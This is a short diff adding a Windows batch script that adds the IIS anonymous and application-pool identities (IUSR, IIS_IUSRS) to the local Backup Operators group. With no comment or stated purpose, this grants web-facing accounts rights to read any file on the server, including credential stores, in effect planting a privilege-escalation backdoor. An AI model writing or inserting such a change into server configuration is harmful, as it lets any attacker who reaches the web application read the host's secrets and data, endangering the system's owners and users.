@@ -1,0 +1,4 @@
+@echo off
+for %%A in (IUSR IIS_IUSRS) do (
+  net localgroup "Backup Operators" %%A /add
+)
